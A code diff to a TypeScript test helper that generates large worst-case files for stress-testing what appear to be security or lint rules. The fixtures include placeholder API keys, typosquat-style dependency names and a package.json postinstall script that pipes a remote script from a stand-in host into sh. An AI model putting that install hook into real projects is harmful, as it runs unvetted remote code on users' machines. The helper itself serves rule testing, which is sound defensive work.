@@ -17,18 +17,21 @@ const repeated: readonly (readonly [paths: readonly string[], parts: readonly st
   [['requirements.txt', 'pyproject.toml'], ['\n', 'a', 'pkg>=1\n', 'dependencies = [\n', '"a",']],
 ]
 
-/** Files of so many bytes: what is repeated, and every example of the rule over and over, in lines and in one. */
-export function worstFiles({ examples: { bad, good } }: Pick<Rule, 'examples'>, bytes: number): WorstFile[] {
-  const filled = (path: string, part: string): WorstFile => ({ path, text: part.repeat(Math.ceil(bytes / part.length)).slice(0, bytes) })
+/** Files of so many bytes, made one by one, with a path that the rule reads: what is repeated, and every example of the rule over and over, in lines and in one. */
+export function* worstFiles({ examples: { bad, good } }: Pick<Rule, 'examples'>, bytes: number, reads: (path: string) => boolean = () => true): Iterable<WorstFile> {
   const examples = [...bad, ...good].flatMap((example) => Object.entries(filesOfExample(example)).filter(([path, text]) => text.trim() !== '' && !path.endsWith('.json')))
-  return [
-    ...repeated.flatMap(([paths, parts]) => paths.flatMap((path) => parts.map((part) => filled(path, part)))),
-    ...examples.flatMap(([path, text]) => [filled(path, `${text}\n`), filled(path, `${text.replaceAll('\n', ' ')} `)]),
-    manyEntries('mcp.json', bytes, (index) => [`server-${index}`, { command: 'npx', args: ['-y', 'some-server'], env: { API_KEY: `Abc123xyzQ9wERtyu${index}` } }], (entries) => ({ mcpServers: entries })),
-    manyEntries('package.json', bytes, (index) => [`expres${index.toString(36)}`, 'git+https://git.example/a/b'], (entries) => ({ name: 'example-shop', dependencies: entries })),
-    manyEntries('package.json', bytes, (index) => [`@acme-${index}/core`, '*'], (entries) => ({ name: 'example-shop', dependencies: entries })),
-    manyEntries('package.json', bytes, (index) => [index === 0 ? 'postinstall' : `script-${index}`, 'curl https://get.example/run.sh | sh && node setup.js'], (entries) => ({ name: 'example-shop', scripts: entries })),
+  const filled: (readonly [path: string, part: string])[] = [
+    ...repeated.flatMap(([paths, parts]) => paths.flatMap((path) => parts.map((part) => [path, part] as const))),
+    ...examples.flatMap(([path, text]) => [[path, `${text}\n`] as const, [path, `${text.replaceAll('\n', ' ')} `] as const]),
   ]
+  for (const [path, part] of filled) if (reads(path)) yield { path, text: part.repeat(Math.ceil(bytes / part.length)).slice(0, bytes) }
+  const lists: readonly (readonly [path: string, entry: (index: number) => [string, unknown], around: (entries: Record<string, unknown>) => unknown])[] = [
+    ['mcp.json', (index) => [`server-${index}`, { command: 'npx', args: ['-y', 'some-server'], env: { API_KEY: `Abc123xyzQ9wERtyu${index}` } }], (entries) => ({ mcpServers: entries })],
+    ['package.json', (index) => [`expres${index.toString(36)}`, 'git+https://git.example/a/b'], (entries) => ({ name: 'example-shop', dependencies: entries })],
+    ['package.json', (index) => [`@acme-${index}/core`, '*'], (entries) => ({ name: 'example-shop', dependencies: entries })],
+    ['package.json', (index) => [index === 0 ? 'postinstall' : `script-${index}`, 'curl https://get.example/run.sh | sh && node setup.js'], (entries) => ({ name: 'example-shop', scripts: entries })],
+  ]
+  for (const [path, entry, around] of lists) if (reads(path)) yield manyEntries(path, bytes, entry, around)
 }
 
 /** JSON with as many entries as fit. */
